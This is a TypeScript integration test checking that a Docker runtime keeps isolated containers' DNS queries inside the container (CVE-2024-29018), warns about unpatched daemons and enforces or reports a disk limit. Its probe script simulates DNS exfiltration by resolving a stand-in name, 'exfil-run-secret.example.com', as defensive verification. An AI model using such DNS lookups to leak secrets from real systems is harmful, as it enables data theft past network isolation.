import { afterEach, describe, expect, it } from "vitest";
import { hasDnsLeakFix } from "../../src/docker/check-daemon-version.js";
import { DockerRuntime } from "../../src/docker/docker-runtime.js";
import { LABEL_RUN_ID } from "../../src/docker/resource-labels.js";
import type { RunningEngine } from "../../src/engine/engine-runtime.js";
import { type RecordingLogger, createRecordingLogger } from "../../src/logger.js";
import { dockerTestContext } from "../support/docker/docker-test-context.js";
import { makeDockerRound } from "../../harness/docker/make-docker-round.js";
import { getFreePort } from "../support/get-free-port.js";

/*
 * Issue #24, point 6, through the Docker runtime on the real daemon:
 * - CVE-2024-29018: on an internal network, a daemon before 26.0.0 forwarded a container's queries for
 *   outside names through the host's loopback resolver. The engine here asks the network's DNS server
 *   (127.0.0.11) for an outside name while listening on its own loopback's port 53: the query must come
 *   back to it, so it never left the container. Before, it went to the host's upstream resolver.
 * - the daemon's version is read at the round's first container and an old one is named in a warning;
 * - the writable layer is limited (docker.diskSize) where the storage driver can; where it cannot (this
 *   machine's vfs on ext4), the round says so and goes on.
 */

const context = dockerTestContext();

/** Binds udp 127.0.0.1:53, asks the embedded DNS server for an outside name, says what reached it, then idles. */
const DNS_PROBE = `
const dgram = require("dgram"), dns = require("dns");
const socket = dgram.createSocket("udp4");
socket.on("message", (query) => {
  console.log("loopback got a query for", query.subarray(12).toString("latin1").replace(/[^a-z0-9-]+/g, "."));
});
socket.bind(53, "127.0.0.1", () => {
  const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
  resolver.setServers(["127.0.0.11"]);
  resolver.resolve4("exfil-run-secret.example.com", (error) => console.log("resolve ended:", error ? error.code : "answered"));
});
setInterval(() => {}, 1000);
`;

/** Writes 64 MiB into the container's root filesystem, then idles. */
const DISK_FILL = `
const fs = require("fs");
try { fs.writeFileSync("/fill", Buffer.alloc(64 * 1024 * 1024, 1)); console.log("fill: wrote 64 MiB"); }
catch (error) { console.log("fill:", error.code); }
setInterval(() => {}, 1000);
`;

async function waitForLog(engine: RunningEngine, pattern: RegExp): Promise<string> {
  const find = (): string | undefined => engine.logTail().find((line) => pattern.test(line));
  const exited = engine.exited.then(() => "exited" as const);
  for (let line = find(); ; line = find()) {
    if (line !== undefined) return line;
    const state = await Promise.race([exited, new Promise((resolve) => setTimeout(resolve, 20))]);
    if (state === "exited" && find() === undefined)
      throw new Error(`the engine exited before printing ${pattern}:\n${engine.logTail().join("\n")}`);
  }
}

describe.skipIf(!context)("the Docker runtime's DNS, daemon version and disk limit (real daemon)", () => {
  const { docker, image } = context ?? { docker: null, image: "" };
  const runtimes: DockerRuntime[] = [];
  afterEach(async () => {
    await Promise.all(runtimes.splice(0).map((runtime) => runtime.dispose()));
  });

  async function start(options: {
    script: string;
    docker?: Record<string, unknown>;
  }): Promise<{ engine: RunningEngine; logger: RecordingLogger; runId: string }> {
    if (!docker) throw new Error("no docker");
    const { round, runId } = makeDockerRound({
      image,
      port: await getFreePort(),
      patch: null,
      docker: { network: "isolated", ...options.docker },
      baseline: { command: ["node", "-e", options.script] },
    });
    const logger = createRecordingLogger();
    const runtime = new DockerRuntime(docker, round, { logger, runId });
    runtimes.push(runtime);
    return { engine: await runtime.start("baseline", new AbortController().signal), logger, runId };
  }

  it(
    "keeps an isolated engine's DNS queries for outside names in its own " + "container, and warns about a daemon without the fix",
    async () => {
      if (!docker) return;
      const { engine, logger } = await start({ script: DNS_PROBE });
      const reached = await waitForLog(engine, /^loopback got a query for|^resolve ended/);
      expect(reached).toMatch(/^loopback got a query for .*exfil-run-secret\.example\.com/);

      const version = String(((await docker.version()) as { Version?: unknown }).Version);
      const warnings = logger.lines.filter((line) => line.level === "warn" && line.message.includes("CVE-2024-29018"));
      if (hasDnsLeakFix(version) === true) expect(warnings).toEqual([]);
      else
        expect(warnings.map((line) => line.message)).toEqual([
          expect.stringContaining(`the daemon is Docker ${version}, older than the fix for CVE-2024-29018 (26.0.0, 25.0.5, 23.0.11)`),
        ]);
    },
  );

  it("limits the writable layer where the storage driver can, and says so where it cannot", async () => {
    if (!docker) return;
    const { engine, logger, runId } = await start({ script: DISK_FILL, docker: { diskSize: "32m" } });
    const filled = await waitForLog(engine, /^fill: /);
    const [info] = await docker.listContainers({ all: true, filters: { label: [`${LABEL_RUN_ID}=${runId}`] } });
    const inspected = await docker.getContainer(info?.Id ?? "").inspect();
    const refused = logger.lines.filter(
      (line) =>
        line.level === "warn" && line.message.includes("cannot limit the baseline container's writable layer to docker.diskSize (32m)"),
    );
    if (refused.length === 0) {
      // A driver that enforces it (overlay2 on xfs with pquota, btrfs, zfs): 64 MiB do not fit in 32.
      expect(inspected.HostConfig.StorageOpt).toEqual({ size: String(32 * 1024 * 1024) });
      expect(filled).toBe("fill: ENOSPC");
    } else {
      // This daemon (vfs on ext4, or overlay2 without project quotas) refuses the option: the round runs without it, and says so.
      const driver = ((await docker.info()) as { Driver?: string }).Driver;
      expect(["vfs", "overlay2", "aufs", "fuse-overlayfs"]).toContain(driver);
      expect(inspected.HostConfig.StorageOpt ?? null).toBeNull();
      expect(filled).toBe("fill: wrote 64 MiB");
      expect(refused[0]?.message).toContain("bounded only by the daemon's disk");
    }
  });
});
